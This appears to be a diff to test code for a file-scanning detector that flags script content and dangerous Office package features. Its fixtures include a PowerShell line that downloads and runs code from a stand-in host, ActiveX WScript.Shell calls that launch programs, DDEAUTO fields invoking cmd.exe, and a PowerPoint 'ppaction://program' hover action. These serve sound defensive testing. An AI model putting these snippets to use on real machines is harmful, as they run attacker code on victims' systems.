@@ -98,6 +98,7 @@ t.test('scripts and settings files are known by clear evidence', (t) => {
     ['var x = new ActiveXObject("WScript.Shell");\nx.Run("calc");\n', 'script'],
     ['$c = New-Object Net.WebClient\nIEX $c.DownloadString("http://a.example/x")\n', 'script'],
     ['<html><head><hta:application id="x"></head></html>', 'script'],
+    ['<html><script>new ActiveXObject("WScript.Shell").Run("x")</script></html>', 'script'],
     ['<?xml version="1.0"?>\n<!-- a -->\n<job><script language="JScript">x()</script></job>', 'script'],
     ['<scriptlet><registration progid="x"/></scriptlet>', 'script'],
     ['<xsl:stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script>x</ms:script></xsl:stylesheet>', 'script'],
@@ -122,6 +123,7 @@ t.test('scripts and settings files are known by clear evidence', (t) => {
     '<package xmlns="http://www.idpf.org/2007/opf"><metadata/></package>',
     '[Settings]\nColour=red\n',
     'Name;Amount\nAnna;3\n',
+    '<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP")</script></html>',
     '# A heading\n\nSome *text*.\n',
   ];
   for (const honest of quiet) t.equal(scriptFlag(honest), undefined, honest.slice(0, 30));
@@ -359,6 +361,9 @@ t.test('Office packages: targets, objects and fields', async (t) => {
     field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText>'),
     field('<w:instrText>PAGE</w:instrText><w:t>DDEAUTO cmd in prose</w:t>'),
   );
+  const slide = (action: string) =>
+    officePackage({ 'ppt/slides/slide1.xml': `<a:hlinkMouseOver action="${action}"/>` });
+  await differs(t, 'dde', slide('ppaction://program'), slide('ppaction://hlinksldjump'));
   const link = (content: string) => officePackage({ 'xl/externalLinks/externalLink1.xml': content });
   await differs(
     t,
